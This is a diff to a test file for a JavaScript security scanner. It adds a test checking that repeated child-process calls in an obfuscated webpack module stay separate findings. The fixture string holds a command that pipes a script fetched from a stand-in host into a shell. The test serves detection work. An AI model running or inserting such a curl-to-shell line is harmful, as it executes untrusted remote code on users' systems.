@@ -4,6 +4,7 @@
 import * as assert from 'node:assert/strict';
 import { RULES } from '../../src/core/rules';
 import { scanWith } from '../helpers/ruleTester';
+import { obfuscate } from '../helpers/bundlers';
 
 const found = (code: string, rule: string) => scanWith(RULES, code).filter(f => f.ruleId === rule);
 
@@ -27,6 +28,16 @@ describe('findings: the same act repeated in a function', () => {
     const inFactory = found(factory, 'clipboard-read');
     assert.equal(inFactory.length, 2, inFactory.map(f => `${f.column} ${f.message}`).join('\n'));
     assert.ok(inFactory.every(f => f.places === undefined));
+  });
+
+  // Review 130 B2: with its strings restored (javascript-obfuscator's string array), a file lost
+  // which functions are module factories, and a webpack factory's two starts merged.
+  it("keeps a bundled module factory's repeats apart in an obfuscated file too", async function () {
+    this.timeout(60_000);
+    const source = 'var __modules={123:(module,exports)=>{const cp=require("child_process");cp.execSync("curl -s https://x.example/a.sh | sh");cp.execSync("curl -s https://x.example/a.sh | sh")}};module.exports=__modules;';
+    const code = await obfuscate(source, { encoding: 'none', wrappers: false });
+    const runs = found(code, 'child-process').filter(f => f.evidence.some(e => e.includes('curl')));
+    assert.equal(runs.length, 2, found(code, 'child-process').map(f => `${f.message} ${f.places ?? ''}`).join('\n'));
   });
 
   it('keeps apart the same code text naming another variable at the repeat (a caught value shadowing the parameter)', () => {
